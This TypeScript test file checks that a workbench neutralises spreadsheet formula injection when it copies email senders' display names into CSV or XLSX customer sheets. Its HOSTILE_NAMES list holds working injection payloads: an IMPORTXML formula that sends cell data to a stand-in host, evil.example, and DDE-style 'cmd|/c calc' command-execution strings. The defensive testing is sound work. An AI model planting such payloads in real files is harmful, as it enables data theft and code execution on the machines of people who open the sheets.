/**
 * Text from strangers reaches the sheet file: "Add to customer sheet" copies an email sender's
 * display name. Whatever it starts with, the CSV or XLSX file the workbench writes keeps it as text.
 */
import * as fs from 'node:fs';
import { readTableFile } from '../../src/local/table/table-file';
import { postAsPage, startTestWorkbench } from '../helpers/workbench-http';
import { unguardedCells } from '../helpers/unguarded-cells';
import { xlsxBytes } from '../helpers/xlsx-bytes';

const HOSTILE_NAMES = [
  '=IMPORTXML("http://evil.example/?"&A2,"//a")',
  '+cmd|"/c calc"!A1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '\t=1+2',
  '\r=1+2',
];

describe.each([
  ['CSV', { file: 'customers.csv', text: 'Email,Name\r\nann@x.example,Ann\r\n' }],
  [
    'XLSX',
    {
      file: 'customers.xlsx',
      text: xlsxBytes([
        ['Email', 'Name'],
        ['ann@x.example', 'Ann'],
      ]),
    },
  ],
])('%s sheet written by the workbench', (_kind, sheet) => {
  it('guards every formula start in names added from email headers, and reads them back as typed', async () => {
    const wb = await startTestWorkbench(sheet);
    try {
      for (const [i, name] of HOSTILE_NAMES.entries()) {
        const res = await postAsPage(wb, '/api/action', {
          kind: 'action',
          parameters: { action: 'addCustomer', email: `evil${i}@evil.example`, name },
          formInputs: {},
        });
        expect(res.status).toBe(200);
      }
      expect(fs.existsSync(wb.sheetPath)).toBe(true);
      expect(unguardedCells(wb.dir)).toEqual([]);
      const names = readTableFile(wb.sheetPath)
        .sheets[0]!.values.slice(2)
        .map((r) => r[1]);
      expect(names).toEqual(HOSTILE_NAMES);
    } finally {
      await wb.close();
    }
  });
});
